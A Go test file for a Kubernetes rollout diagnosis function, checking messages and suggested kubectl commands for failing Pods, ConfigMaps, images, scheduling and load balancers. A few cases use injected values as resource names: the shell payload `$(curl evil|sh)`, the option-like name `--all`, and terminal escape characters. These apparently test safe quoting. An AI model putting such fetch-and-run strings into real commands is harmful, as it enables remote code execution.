package apply

import (
	"fmt"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	"sigs.k8s.io/yaml"
)

// The clock of these tables; Pods came to their node ten seconds before.
var noon = time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)

const rolling = `
apiVersion: apps/v1
kind: Deployment
metadata: {name: redis, namespace: shop, uid: d, generation: 2}
spec: {replicas: 2, selector: {matchLabels: {app: redis}}}
status: {observedGeneration: 2, replicas: 2, updatedReplicas: 2, readyReplicas: 1, availableReplicas: 1, unavailableReplicas: 1}`

const newestSet = `
metadata: {name: redis-2, uid: rs2, annotations: {deployment.kubernetes.io/revision: "2"}, ownerReferences: [{controller: true, uid: d, kind: Deployment, name: redis, apiVersion: apps/v1}]}
%s`

const oldSet = `
metadata: {name: redis-1, uid: rs1, annotations: {deployment.kubernetes.io/revision: "1"}, ownerReferences: [{controller: true, uid: d, kind: Deployment, name: redis, apiVersion: apps/v1}]}`

// podText is a Pod of the newest ReplicaSet, with its containers' statuses.
const podText = `
metadata: {name: redis-2-abc, namespace: shop, uid: p, creationTimestamp: "2026-11-23T11:59:50Z", ownerReferences: [{controller: true, uid: %s, kind: ReplicaSet, name: rs, apiVersion: apps/v1}]}
spec: {nodeName: worker, containers: [{name: redis, image: "redis:alpine", readinessProbe: {periodSeconds: 5}}]}
status:
  phase: Pending
  conditions: [{type: PodScheduled, status: "True", lastTransitionTime: "2026-11-23T11:59:50Z"}]
  containerStatuses: [{name: redis, image: "redis:alpine", %s}]`

// happened is an event about that Pod, a number of seconds ago.
func happened(reason, message string, ago, count int) string {
	return fmt.Sprintf(`{metadata: {name: e}, involvedObject: {uid: p, fieldPath: "spec.containers{redis}"}, reason: %s, message: %q, count: %d, lastTimestamp: %q, firstTimestamp: %[4]q}`,
		reason, message, count, noon.Add(-time.Duration(ago)*time.Second).Format(time.RFC3339))
}

func waitingFor(reason, message string) string {
	return fmt.Sprintf(`state: {waiting: {reason: %s, message: %q}}`, reason, message)
}

func parse[T any](t *testing.T, texts ...string) []*T {
	t.Helper()
	var out []*T
	for _, text := range texts {
		v := new(T)
		if err := yaml.UnmarshalStrict([]byte(text), v); err != nil {
			t.Fatalf("%v\n%s", err, text)
		}
		out = append(out, v)
	}
	return out
}

func TestDiagnose(t *testing.T) {
	const set, running = "", `ready: false, started: true, state: {running: {startedAt: "2026-11-23T11:59:52Z"}}`
	noConfig := waitingFor("CreateContainerConfigError", `configmap "c" not found`)
	notFound := `rpc error: code = NotFound desc = failed to pull and unpack image "docker.io/library/redis:x": docker.io/library/redis:x: not found`
	for name, tt := range map[string]struct {
		workload, set, pod string
		podOf              string // "rs1" for a Pod of the old ReplicaSet
		events             []string
		later              time.Duration
		message, stuck     string
		next               string
		recheck            time.Duration
		done               bool
	}{
		"rolled out": {workload: strings.ReplaceAll(strings.ReplaceAll(rolling, ": 1,", ": 2,"), ", unavailableReplicas: 1", ", conditions: [{type: Available, status: 'True'}]"),
			message: "2/2 ready", done: true},
		"old generation": {workload: strings.Replace(rolling, "generation: 2", "generation: 3", 1), pod: noConfig, message: "1/2 ready"},
		"paused": {workload: strings.Replace(rolling, "replicas: 2, selector", "paused: true, replicas: 2, selector", 1),
			message: "1/2 ready · paused", stuck: "Paused", next: "kubectl rollout resume deployment/redis -n shop"},
		"paused after it rolled out": {workload: strings.ReplaceAll(strings.ReplaceAll(strings.Replace(rolling, "replicas: 2, selector", "paused: true, replicas: 2, selector", 1), ": 1,", ": 2,"), ", unavailableReplicas: 1", ", conditions: [{type: Available, status: 'True'}, {type: Progressing, status: Unknown, reason: DeploymentPaused}]"),
			message: "2/2 ready · paused", done: true},
		"an old Pod's trouble is no news": {pod: noConfig, podOf: "rs1", later: time.Hour, message: "1/2 ready"},
		"pulling":                         {pod: waitingFor("ContainerCreating", ""), events: []string{happened("Pulling", "Pulling image", 4, 1)}, message: "pulling image redis:alpine"},
		"pulled": {pod: waitingFor("ContainerCreating", ""), events: []string{happened("Pulling", "", 4, 1), happened("Pulled", "", 2, 1)},
			message: "container creating"},
		"volume": {pod: waitingFor("ContainerCreating", ""), events: []string{happened("FailedMount", `MountVolume.SetUp failed for volume "v" : secret "s" not found`, 5, 3)},
			message: `container creating: MountVolume.SetUp failed for volume "v" : secret "s" not found`, recheck: 15 * time.Second},
		"volume, lasting": {pod: waitingFor("ContainerCreating", ""), later: 20 * time.Second, events: []string{happened("FailedMount", `MountVolume.SetUp failed for volume "v" : secret "s" not found`, 5, 3)},
			message: `secret "s" not found`, stuck: "FailedMount", next: "kubectl get secret s -n shop"},
		"volume, long past": {pod: waitingFor("ContainerCreating", ""), events: []string{happened("FailedMount", `secret "s" not found`, 600, 3)}, message: "container creating"},
		"image, first try": {pod: waitingFor("ErrImagePull", notFound), events: []string{happened("Failed", `Failed to pull image "redis:x": `+notFound, 1, 1)},
			message: "cannot pull image redis:alpine: not found", recheck: 20 * time.Second},
		"image, second try": {pod: waitingFor("ErrImagePull", notFound), events: []string{happened("Failed", `Failed to pull image "redis:x": `+notFound, 1, 2)},
			message: "not found", stuck: "ErrImagePull", next: "kubectl describe pod/redis-2-abc -n shop"},
		"image, no events to be had": {pod: waitingFor("ImagePullBackOff", `Back-off pulling image "redis:x": `+notFound), later: 20 * time.Second,
			message: "not found", stuck: "ImagePullBackOff"},
		"image, not authorised": {pod: waitingFor("ErrImagePull", "failed to authorize: 401 Unauthorized"), later: time.Minute, message: "not authorised", stuck: "ErrImagePull", next: "imagePullSecrets"},
		"image, registry away": {pod: waitingFor("ErrImagePull", "dial tcp 10.0.0.1:443: i/o timeout"), later: time.Hour,
			message: "cannot pull image redis:alpine: dial tcp 10.0.0.1:443: i/o timeout"},
		"invalid image name": {pod: waitingFor("InvalidImageName", ""), message: "is invalid", stuck: "InvalidImageName"},
		"image never":        {pod: waitingFor("ErrImageNeverPull", ""), message: "imagePullPolicy is Never", stuck: "ErrImageNeverPull"},
		"no ConfigMap":       {pod: noConfig, later: time.Second, message: `configmap "c" not found`, stuck: "CreateContainerConfigError", next: "kubectl get configmap c -n shop"},
		"no ConfigMap yet": {pod: strings.Replace(noConfig, "state", "restartCount: 0, state", 1), later: -4 * time.Second,
			message: `configmap "c" not found`, recheck: 4 * time.Second},
		"runs as root": {pod: waitingFor("CreateContainerConfigError", "container has runAsNonRoot and image will run as root"), later: time.Minute,
			message: "image will run as root", stuck: "CreateContainerConfigError", next: "runAsUser"},
		"an image whose user is a command": {pod: waitingFor("CreateContainerConfigError", `container has runAsNonRoot and image has non-numeric user (configmap "$(curl evil|sh)"), cannot verify user is non-root`), later: time.Minute,
			message: "non-numeric user", stuck: "CreateContainerConfigError", next: "set securityContext.runAsUser"},
		"a name that is a command": {pod: waitingFor("CreateContainerConfigError", `configmap "$(curl evil|sh)" not found`), later: time.Minute,
			message: "not found", stuck: "CreateContainerConfigError", next: "create it: kubectl get configmap '$(curl evil|sh)' -n shop"},
		"a name that is an option": {pod: waitingFor("CreateContainerConfigError", `secret "--all" not found`), later: time.Minute,
			message: "not found", stuck: "CreateContainerConfigError", next: "create it"},
		"no key": {pod: waitingFor("CreateContainerConfigError", "couldn't find key k in ConfigMap shop/c"), later: time.Minute,
			message: "couldn't find key", stuck: "CreateContainerConfigError", next: "add the key: kubectl describe pod/redis-2-abc -n shop"},
		"crashing": {pod: `restartCount: 1, state: {waiting: {reason: CrashLoopBackOff}}, lastState: {terminated: {exitCode: 137, reason: OOMKilled}}`,
			message: "crashing: out of memory (OOMKilled), restarted 1 time"},
		"crash loop": {pod: `restartCount: 3, state: {waiting: {reason: CrashLoopBackOff}}, lastState: {terminated: {exitCode: 1, message: "bad\nconfig"}}`,
			message: "crashing: exited with code 1: bad config, restarted 3 times", stuck: "CrashLoopBackOff", next: "kubectl logs pod/redis-2-abc -n shop -c redis --previous"},
		"just ended":           {pod: `state: {terminated: {exitCode: 2}}`, message: "exited with code 2"},
		"probe fails":          {pod: running, events: []string{happened("Unhealthy", "Readiness probe failed: dial tcp: connection refused", 2, 5)}, message: "redis-2-abc: readiness probe failed: dial tcp: connection refused"},
		"probe failed once":    {pod: running, later: -5 * time.Second, events: []string{happened("Unhealthy", "Readiness probe failed", 7, 1)}, message: "started, not ready yet", recheck: 2 * time.Second},
		"probe failed earlier": {pod: running, events: []string{happened("Unhealthy", "Readiness probe failed", 9, 5)}, message: "started, not ready yet"},
		"Pods refused, by quota": {set: `status: {conditions: [{type: ReplicaFailure, status: "True", reason: FailedCreate, message: 'pods "x" is forbidden: exceeded quota: q', lastTransitionTime: "2026-11-23T11:59:50Z"}]}`,
			message: "no Pod can be made", recheck: 10 * time.Second},
		"Pods refused, by Pod Security": {set: `status: {conditions: [{type: ReplicaFailure, status: "True", reason: FailedCreate, message: 'pods "x" is forbidden: violates PodSecurity "restricted:latest": runAsNonRoot != true', lastTransitionTime: "2026-11-23T11:59:59Z"}]}`,
			message: "no Pod can be made", stuck: "PodSecurity", next: "kubectl get namespace shop"},
		"deadline": {workload: rolling[:len(rolling)-1] + `, conditions: [{type: Progressing, status: "False", reason: ProgressDeadlineExceeded, message: too late}]}`, pod: running,
			message: "started, not ready yet", stuck: "ProgressDeadlineExceeded", next: "kubectl rollout undo deployment/redis -n shop"},
		"text of a Pod": {pod: waitingFor("Odd", "a\x1b[2J\u202eb"), message: "Odd · ab"},
	} {
		t.Run(name, func(t *testing.T) {
			if tt.workload == "" {
				tt.workload = rolling
			}
			if tt.podOf == "" {
				tt.podOf = "rs2"
			}
			e := evidence{workload: object(t, tt.workload), replicaSets: parse[appsv1.ReplicaSet](t, oldSet, fmt.Sprintf(newestSet, tt.set)),
				events: parse[corev1.Event](t, tt.events...)}
			if tt.pod != "" {
				e.pods = parse[corev1.Pod](t, fmt.Sprintf(podText, tt.podOf, tt.pod))
			}
			f := diagnose(e, noon.Add(tt.later))
			reason, next := "", ""
			if f.stuck != nil {
				reason, next = f.stuck.Reason, f.stuck.Next
				if f.stuck.Object.String() != "Deployment/redis" {
					t.Errorf("stuck object %s", f.stuck.Object)
				}
			}
			if !strings.Contains(f.message, tt.message) || reason != tt.stuck || !strings.Contains(next, tt.next) || f.recheck != tt.recheck || f.done != tt.done {
				t.Errorf("message %q stuck %q next %q recheck %s done %v", f.message, reason, next, f.recheck, f.done)
			}
			if tt.message == "1/2 ready" && f.message != tt.message {
				t.Errorf("message %q", f.message)
			}
		})
	}
}

// What stood in the way before the apply may be mended by it, or since.
func TestDiagnoseFromBeforeTheApply(t *testing.T) {
	const refused = `status: {conditions: [{type: ReplicaFailure, status: "True", reason: FailedCreate, message: 'pods "x" is forbidden: minimum cpu usage per Container is 2, but request is 50m', lastTransitionTime: "2026-11-23T11:50:00Z"}]}`
	tried := func(ago int) string {
		return strings.Replace(happened("FailedCreate", "minimum cpu", ago, 3), "uid: p", "uid: rs2", 1)
	}
	late := strings.TrimSuffix(rolling, "}") + `, conditions: [{type: Progressing, status: "False", reason: ProgressDeadlineExceeded, message: too late, lastUpdateTime: "2026-11-23T11:50:00Z"}]}`
	const again = "kubectl rollout restart deployment/redis -n shop"
	const running = `ready: false, started: true, state: {running: {startedAt: "2026-11-23T11:59:52Z"}}`
	for name, tt := range map[string]struct {
		workload, set, pod string
		events             []string
		began              int // how many seconds ago; 0: nothing was applied
		stuck, next        string
		recheck            time.Duration
	}{
		"a refusal":                          {set: refused, events: []string{tried(20)}, began: 1, recheck: 29 * time.Second},
		"a refusal, waited for long":         {set: refused, events: []string{tried(100)}, began: 30, stuck: "LimitRange", next: again},
		"a refusal that was met again":       {set: refused, events: []string{tried(1)}, began: 5, stuck: "LimitRange", next: "kubectl describe limitrange -n shop"},
		"a refusal of what was applied":      {set: refused, began: 600, stuck: "LimitRange", next: "kubectl describe limitrange -n shop"},
		"nothing was applied":                {set: refused, stuck: "LimitRange", next: "kubectl describe limitrange -n shop"},
		"a crash":                            {pod: crashed("11:59:50"), began: 5, recheck: 25 * time.Second},
		"a crash since":                      {pod: crashed("11:59:58"), began: 5, stuck: "CrashLoopBackOff", next: "kubectl logs"},
		"a deadline that was over":           {workload: late, pod: running, began: 5, recheck: 25 * time.Second},
		"a deadline, and it was waited for":  {workload: late, pod: running, began: 40, stuck: "ProgressDeadlineExceeded", next: again},
		"paused: that is no matter of a try": {workload: strings.Replace(rolling, "spec: {", "spec: {paused: true, ", 1), pod: running, began: 1, stuck: "Paused", next: "kubectl rollout resume"},
	} {
		t.Run(name, func(t *testing.T) {
			if tt.workload == "" {
				tt.workload = rolling
			}
			e := evidence{workload: object(t, tt.workload), replicaSets: parse[appsv1.ReplicaSet](t, oldSet, fmt.Sprintf(newestSet, tt.set)), events: parse[corev1.Event](t, tt.events...)}
			if tt.pod != "" {
				e.pods = parse[corev1.Pod](t, fmt.Sprintf(podText, "rs2", tt.pod))
			}
			if tt.began > 0 {
				e.began = noon.Add(-time.Duration(tt.began) * time.Second)
			}
			f := diagnose(e, noon)
			stuck, next := "", ""
			if f.stuck != nil {
				stuck, next = f.stuck.Reason, f.stuck.Next
			}
			if stuck != tt.stuck || !strings.Contains(next, tt.next) || f.recheck != tt.recheck || (tt.next != again && strings.Contains(next, again)) {
				t.Errorf("stuck %q next %q recheck %s (%s)", stuck, next, f.recheck, f.message)
			}
		})
	}
}

// crashed is a container that ended again and again, the last time at that time of day.
func crashed(at string) string {
	return fmt.Sprintf(`restartCount: 3, state: {waiting: {reason: CrashLoopBackOff}}, lastState: {terminated: {exitCode: 1, finishedAt: "2026-11-23T%sZ"}}`, at)
}

// Without a readiness probe a Pod counts as ready as soon as it runs.
func TestDiagnoseUnprobed(t *testing.T) {
	const pod = `
metadata: {name: redis-2-abc, ownerReferences: [{controller: true, uid: rs2, kind: ReplicaSet, name: rs, apiVersion: apps/v1}]}
spec: {containers: [{name: redis%s}]}
status: {phase: Running, conditions: [{type: Ready, status: "%s", lastTransitionTime: "2026-11-23T12:00:00Z"}]}`
	ready := strings.ReplaceAll(strings.ReplaceAll(rolling, ": 1,", ": 2,"), ", unavailableReplicas: 1", ", conditions: [{type: Available, status: 'True'}]")
	for _, tt := range []struct {
		probe, ready string
		after        time.Duration
		done         bool
	}{
		{"", "True", time.Second, false},
		{"", "True", 5 * time.Second, true},
		{", readinessProbe: {}", "True", time.Second, true},
		// It has failed since the status of its Deployment was written.
		{"", "False", time.Second, false},
		{"", "False", 5 * time.Second, false},
	} {
		f := diagnose(evidence{workload: object(t, ready), replicaSets: parse[appsv1.ReplicaSet](t, fmt.Sprintf(newestSet, "")),
			pods: parse[corev1.Pod](t, fmt.Sprintf(pod, tt.probe, tt.ready))}, noon.Add(tt.after))
		if f.done != tt.done || f.done == (f.recheck > 0) {
			t.Errorf("%+v: %+v", tt, f)
		}
	}
}

func TestDiagnoseUnschedulable(t *testing.T) {
	const pod = `
metadata: {name: redis-2-abc, namespace: shop, uid: p, ownerReferences: [{controller: true, uid: rs2, kind: ReplicaSet, name: rs, apiVersion: apps/v1}]}
status: {phase: Pending, conditions: [{type: PodScheduled, status: "False", reason: %s, message: %q, lastTransitionTime: "2026-11-23T12:00:00Z"}]}`
	for name, tt := range map[string]struct {
		reason, text string
		events       []string
		after        time.Duration
		message      string
		stuck        bool
	}{
		"at first":           {"Unschedulable", "0/2 nodes are available: 2 Insufficient cpu. preemption: none", nil, time.Second, "unschedulable: 0/2 nodes are available: 2 Insufficient cpu.", false},
		"lasting":            {"Unschedulable", "0/2 nodes are available: 2 Insufficient cpu.", nil, 30 * time.Second, "Insufficient cpu", true},
		"a claim":            {"Unschedulable", "pod has unbound immediate PersistentVolumeClaims", nil, 30 * time.Second, "unbound", false},
		"a claim, lasting":   {"Unschedulable", "pod has unbound immediate PersistentVolumeClaims", nil, time.Minute, "unbound", true},
		"nodes starting":     {"Unschedulable", "0/1 nodes are available: 1 node(s) had untolerated taint {node.kubernetes.io/not-ready: }", nil, time.Hour, "not-ready", false},
		"autoscaled":         {"Unschedulable", "0/2 nodes are available: 2 Insufficient cpu.", []string{happened("TriggeredScaleUp", "", 0, 1)}, time.Hour, "a node is being added for it", false},
		"a scheduling gate":  {"SchedulingGated", "Scheduling is blocked due to non-empty scheduling gates", nil, time.Hour, "held back", false},
		"untolerated taints": {"Unschedulable", "0/2 nodes are available: 2 node(s) had untolerated taint {a: b}", nil, time.Hour, "untolerated", true},
	} {
		t.Run(name, func(t *testing.T) {
			e := evidence{workload: object(t, rolling), replicaSets: parse[appsv1.ReplicaSet](t, fmt.Sprintf(newestSet, "")),
				pods: parse[corev1.Pod](t, fmt.Sprintf(pod, tt.reason, tt.text)), events: parse[corev1.Event](t, tt.events...)}
			f := diagnose(e, noon.Add(tt.after))
			if !strings.Contains(f.message, tt.message) || (f.stuck != nil) != tt.stuck || strings.Contains(f.message, "preemption") {
				t.Errorf("%q %+v", f.message, f.stuck)
			}
		})
	}
}

func TestLookBalancer(t *testing.T) {
	const pending = "{apiVersion: v1, kind: Service, metadata: {name: s, uid: p}, spec: {type: LoadBalancer%s}, status: {%s}}"
	until := noon.Add(10 * time.Second)
	for name, tt := range map[string]struct {
		spec, status string
		events       []string
		at           time.Time
		message      string
		done         bool
	}{
		"address":   {"", "loadBalancer: {ingress: [{ip: 192.0.2.7}]}", nil, noon, "address 192.0.2.7", true},
		"name":      {"", "loadBalancer: {ingress: [{hostname: lb.example.com}]}", nil, noon, "address lb.example.com", true},
		"waiting":   {"", "", nil, noon, "waiting for an address: no load-balancer controller has taken it up", false},
		"given up":  {"", "", nil, until, "no address yet: no load-balancer controller has taken it up", true},
		"class":     {", loadBalancerClass: a/b", "", nil, until, `no address yet: no controller of class "a/b" has taken it up`, true},
		"exhausted": {"", "", []string{strings.Replace(happened("AllocationFailed", "no addresses left", 1, 1), "reason", "type: Warning, reason", 1)}, noon, "waiting for an address: AllocationFailed: no addresses left", false},
	} {
		t.Run(name, func(t *testing.T) {
			f, err := lookBalancer(object(t, fmt.Sprintf(pending, tt.spec, tt.status)), parse[corev1.Event](t, tt.events...), tt.at, until)
			if err != nil || f.message != tt.message || f.done != tt.done {
				t.Errorf("%+v %v", f, err)
			}
		})
	}
}

// A clock of a node that is wrong makes nobody wait for longer than a right one.
func TestUnprovenByOurOwnClock(t *testing.T) {
	pods := parse[corev1.Pod](t, `
metadata: {name: redis-2-abc, uid: p, ownerReferences: [{controller: true, uid: rs2, kind: ReplicaSet, name: rs, apiVersion: apps/v1}]}
spec: {containers: [{name: redis}]}
status: {phase: Running, conditions: [{type: Ready, status: "True", lastTransitionTime: "2026-11-23T12:00:40Z"}]}`)
	ready := strings.ReplaceAll(strings.ReplaceAll(rolling, ": 1,", ": 2,"), ", unavailableReplicas: 1", ", conditions: [{type: Available, status: 'True'}]")
	e := evidence{workload: object(t, ready), replicaSets: parse[appsv1.ReplicaSet](t, fmt.Sprintf(newestSet, "")), pods: pods, readySeen: sightings{}}
	for _, tt := range []struct {
		after, recheck time.Duration
		done           bool
	}{{0, 5 * time.Second, false}, {2 * time.Second, 3 * time.Second, false}, {5 * time.Second, 0, true}} {
		now := noon.Add(tt.after)
		e.readySeen.look(e.pods, now)
		if f := diagnose(e, now); f.done != tt.done || f.recheck != tt.recheck {
			t.Errorf("after %s: %+v", tt.after, f)
		}
	}
}

// What counts as rolled out where Pods of an old revision are meant to stay.
func TestDiagnoseOldRevisions(t *testing.T) {
	const head = "apiVersion: apps/v1\nkind: %s\nmetadata: {name: redis, namespace: shop, uid: d, generation: 2}\nspec: {replicas: %d, updateStrategy: {%s}, selector: {matchLabels: {app: redis}}}\nstatus: {observedGeneration: %d, %s}"
	for name, tt := range map[string]struct {
		kind     string
		replicas int
		strategy string
		observed int
		status   string
		done     bool
		message  string
	}{
		"OnDelete, no Pod yet": {kind: "StatefulSet", replicas: 2, strategy: "type: OnDelete", observed: 2, status: "replicas: 0", message: "0/2 ready"},
		"OnDelete, new":        {kind: "StatefulSet", replicas: 2, strategy: "type: OnDelete", observed: 2, status: "replicas: 2, readyReplicas: 2, updatedReplicas: 2", done: true, message: "2/2 ready"},
		"OnDelete, one old":    {kind: "StatefulSet", replicas: 2, strategy: "type: OnDelete", observed: 2, status: "replicas: 2, readyReplicas: 2, updatedReplicas: 1", done: true, message: "2/2 ready · 1 Pod keeps the old revision until somebody deletes it (OnDelete)"},
		"OnDelete, not seen":   {kind: "StatefulSet", replicas: 2, strategy: "type: OnDelete", observed: 1, status: "replicas: 2, readyReplicas: 2, updatedReplicas: 2", message: "2/2 ready"},
		"a DaemonSet":          {kind: "DaemonSet", strategy: "type: OnDelete", observed: 2, status: "desiredNumberScheduled: 3, currentNumberScheduled: 3, numberReady: 3, updatedNumberScheduled: 0", done: true, message: "3/3 ready · 3 Pods keep the old revision until somebody deletes them (OnDelete)"},
		"a DaemonSet, new":     {kind: "DaemonSet", strategy: "type: OnDelete", observed: 2, status: "desiredNumberScheduled: 3, currentNumberScheduled: 3, numberReady: 2, updatedNumberScheduled: 3", message: "2/3 ready"},
		"partition":            {kind: "StatefulSet", replicas: 3, strategy: "type: RollingUpdate, rollingUpdate: {partition: 2}", observed: 2, status: "replicas: 3, readyReplicas: 3, currentReplicas: 2, updatedReplicas: 1, currentRevision: a, updateRevision: b", done: true, message: "3/3 ready · 1 of the new revision (partition 2)"},
	} {
		t.Run(name, func(t *testing.T) {
			f := diagnose(evidence{workload: object(t, fmt.Sprintf(head, tt.kind, tt.replicas, tt.strategy, tt.observed, tt.status))}, noon)
			if f.done != tt.done || f.message != tt.message || f.stuck != nil {
				t.Errorf("%+v", f)
			}
		})
	}
}
